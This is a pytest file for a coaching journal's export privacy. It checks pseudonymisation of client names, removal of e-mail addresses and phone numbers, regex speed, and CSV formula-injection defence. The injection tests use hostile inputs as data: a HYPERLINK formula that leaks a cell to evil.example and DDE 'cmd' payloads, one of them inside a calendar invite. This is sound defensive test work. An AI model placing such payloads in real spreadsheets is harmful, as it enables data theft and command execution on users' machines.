"""Private by default means private (issue 16): client names in any spelling a reader
would recognise, their distinctive words, e-mail addresses and phone numbers never
leave in a private export; generic words stay. CSV cells are never formulas.

The privacy journal and its markers are tests/data/privacy (make_privacy_journal.py):
each marker is a text placed in a title, a tag, the notes or an open answer of a
meeting of its own.
"""

import csv
import importlib.util
import io
import json
import time
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from journal.coach import export_bundle, export_formats
from journal.coach.contact_details import EMAIL, PHONE, take_out
from journal.coach.export_bundle import ExportChoice
from journal.coach.privacy import Pseudonyms
from journal.model import MeetingInput, ReflectionInput

PRIVACY = Path(__file__).parents[1] / "data" / "privacy"
NOVEMBER = (date(2026, 11, 1), date(2026, 11, 30))


def recipe():
    spec = importlib.util.spec_from_file_location(
        "privacy_journal", PRIVACY / "make_privacy_journal.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def exports(tmp_path_factory):
    """The privacy journal exported as JSON and CSV, with and without texts: per
    export, the exported words of each meeting, by meeting id."""
    from journal.service import Journal

    folder = tmp_path_factory.mktemp("privacy")
    recipe().build(folder)
    journal = Journal.open(folder)
    found = {}
    try:
        for texts in (False, True):
            choice = ExportChoice(*NOVEMBER, include_texts=texts)
            bundle = export_bundle.build(journal, choice)
            label = "+texts" if texts else ""
            found["json" + label] = {m["id"]: json_words(m) for m in bundle["meetings"]}
            data = export_formats.to_csv(bundle, journal.bank, "en")
            rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
            per_meeting = {}
            for row in rows:
                words = "\n".join(row[c] for c in ("meeting", "client", "text") if row[c])
                per_meeting[int(row["meeting_id"])] = (
                    per_meeting.get(int(row["meeting_id"]), "") + "\n" + words
                )
            found["csv" + label] = per_meeting
    finally:
        journal.close()
    return found


def json_words(meeting: dict) -> str:
    reflection = meeting.get("reflection") or {}
    return "\n".join(
        [meeting["title"], meeting["client"], *meeting["tags"], meeting.get("notes") or ""]
        + [a.get("text", "") for a in reflection.get("answers", [])]
        + [reflection.get("intention") or ""]
    )


MARKERS = json.loads((PRIVACY / "markers.json").read_text("utf-8"))


@pytest.mark.parametrize("label", ["json", "csv", "json+texts", "csv+texts"])
@pytest.mark.parametrize("marker", MARKERS, ids=[m["id"] for m in MARKERS])
def test_each_marker_vanishes_or_stays_as_it_should(exports, marker, label):
    meeting = MARKERS.index(marker) + 1
    if marker["where"] in ("notes", "answer") and "+texts" not in label:
        pytest.skip("texts stay home unless included")
    if label.startswith("csv") and marker["where"] in ("notes", "tag"):
        pytest.skip("the CSV has no notes or tags")
    text = exports[label][meeting]
    if marker["expected"] == "vanish":
        assert marker["marker"] not in text, f"{marker['why']}: {text!r}"
    else:
        assert marker["marker"] in text, f"over-redacted: {text!r}"


def test_no_client_name_is_anywhere_in_a_private_export(exports):
    clients = json.loads((PRIVACY / "clients.json").read_text("utf-8"))
    for found in exports.values():
        everything = "\n".join(found.values())
        assert [c for c in clients if c in everything] == []


# -- names as readers write them ----------------------------------------------------------

CLIENTS = ["Kestrel Engineering", "Zyxcorp Holding", "Gemeente Wijkerbroek", "O'Brien & Zonen BV",
           "Van der Meer-Kloosterhuis", "Großkunde Vexmar", "KPN", "Bakker & Zonen (Logistiek)"]  # fmt: skip


@pytest.fixture
def names():
    return Pseudonyms(CLIENTS)


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("Overleg Kestrel's directie", "Kestrel"),
        ("#KestrelMeeting", "Kestrel"),
        ("kestrel2026-planning", "kestrel"),
        ("KESTREL-ENGINEERING", "KESTREL"),
        ("Kestrel\nEngineering", "Kestrel"),
        ("Offerte O\u2019Briens", "Brien"),
        ("obrien & zonen", "obrien"),
        ("Van der Meer Kloosterhuis", "Kloosterhuis"),
        ("Kloosterhuis", "Kloosterhuis"),
        ("Jaarplan VEXMAR", "VEXMAR"),
        ("Glasvezel KPN", "KPN"),
        ("Overleg Ｚｙｘｃｏｒｐ", "Ｚｙｘｃｏｒｐ"),
        ("Wijker\u00adbroek", "Wijker"),
        ("Gemeente\u00a0Wijkerbroek", "Wijkerbroek"),
    ],
)
def test_names_are_found_as_a_reader_reads_them(names, text, gone):
    assert gone not in names.text(text)


@pytest.mark.parametrize(
    "text",
    ["Er is meer tijd nodig", "De gemeente belt terug", "Holding-structuur", "Oprichting BV",
     "Engineering-afdeling", "Logistiek overleg", "Van de week", "KP"],
)  # fmt: skip
def test_generic_and_common_words_of_a_name_stay(names, text):
    assert names.text(text) == text


def test_one_client_is_one_letter_whatever_the_spelling(names):
    spelled = ["Kestrel Engineering", "KESTREL ENGINEERING", "Kestrel", "#KestrelEngineering"]
    assert {names.text(t) for t in spelled} == {"Client A", "#Client A"}
    assert names.client("kestrel  engineering") == "Client A"


def test_real_names_keep_the_names_but_never_addresses_or_numbers():
    real = Pseudonyms(CLIENTS, real_names=True)
    assert real.text("Kestrel: piet@kestrel.co.uk, +31 6 12345678") == "Kestrel: [e-mail], [phone]"


# -- e-mail addresses and phone numbers ---------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    ["piet@kestrel.co.uk", "PIET@KESTREL.CO.UK", "user@localhost", "ops@[10.1.2.3]",
     "kees.o'brien@example.nl", "kees.o\u2019brien@example.nl", "émile@dufresne-conseil.fr",
     "first+tag@sub.example.org", "a_b%c@x-y.nl"],
)  # fmt: skip
def test_every_kind_of_e_mail_address_goes_whole(address):
    assert take_out(f"Mail {address}, graag.") == "Mail [e-mail], graag."


@pytest.mark.parametrize(
    "number",
    ["+31 6 12345678", "+31612345678", "020-1234567", "06-12345678", "(020) 123 45 67",
     "+31 (0)20 123 4567", "0031 20 1234567", "06 1234 5678", "+44 20 7946 0958"],
)  # fmt: skip
def test_phone_numbers_are_taken_out(number):
    assert take_out(f"Bel {number} morgen") == "Bel [phone] morgen"


@pytest.mark.parametrize(
    "text",
    ["01-12-2026 om 09:00", "2026-11-24", "Lunch@12:00", "factuur 12345", "1.234.567,00 euro",
     "versie 2.0.1", "kamer 4.12"],
)  # fmt: skip
def test_dates_amounts_and_times_are_not_taken_for_contact_details(text):
    assert take_out(text) == text


@pytest.mark.parametrize("length", [40_000, 1_000_000])
@pytest.mark.parametrize("filler", ["a", "a.", "1", "a@", "0 1", "é"])
def test_the_patterns_take_linear_time_on_one_enormous_word(length, filler):
    text = filler * (length // len(filler))
    began = time.monotonic()
    EMAIL.sub("", text)
    PHONE.sub("", text)
    assert time.monotonic() - began < 2


def test_a_one_million_character_title_is_made_private_quickly(journal):
    title = "Kestrel" + "x" * 999_990 + "piet@kestrel.co.uk"
    began = time.monotonic()
    done = Pseudonyms(CLIENTS).text(title)
    assert time.monotonic() - began < 10
    assert "Kestrel" not in done and "@" not in done


# -- CSV cells that are formulas ------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1"],
)  # fmt: skip
def test_no_csv_cell_starts_a_formula(journal, title):
    journal.save(
        MeetingInput(title, title, datetime(2026, 11, 3, 9, tzinfo=UTC), 60),
        ReflectionInput({"listening.1": 3}, texts={"open.happened": title}),
    )
    choice = ExportChoice(*NOVEMBER, real_names=True, include_texts=True)
    data = export_formats.to_csv(export_bundle.build(journal, choice), journal.bank, "en")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row if cell]
    assert cells
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell == "'" + title.strip() or cell == "'" + title for cell in cells)


def test_a_formula_invited_from_outside_never_reaches_the_coach_as_one(journal, tmp_path):
    """Issue 16's own example, end to end: a stranger's invite, imported, reflected on,
    exported as CSV (private and with real names)."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    invite = tmp_path / "invite.ics"
    invite.write_bytes(
        (
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:evil-1\r\n"
            "DTSTART:20261103T090000Z\r\nDTEND:20261103T100000Z\r\n"
            f"SUMMARY:{formula}\r\nORGANIZER:mailto:piet@kestrel.co.uk\r\n"
            "ATTENDEE:mailto:piet@kestrel.co.uk\r\nATTENDEE:mailto:anna@adviesbureau.nl\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n"
        ).encode()
    )
    journal.calendar.import_file(
        invite, datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC)
    )
    [summary] = journal.meeting_page(0, 10)
    meeting = journal.meeting(summary.id)
    assert meeting.title == formula  # the title is kept as written ...
    journal.save(
        MeetingInput(meeting.client.name, meeting.title, meeting.start, 60),
        ReflectionInput({"listening.1": 3}),
        meeting_id=meeting.id,
    )
    for real_names in (False, True):
        choice = ExportChoice(*NOVEMBER, real_names=real_names)
        data = export_formats.to_csv(export_bundle.build(journal, choice), journal.bank, "en")
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert "'" + formula in cells  # ... and leaves as text
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
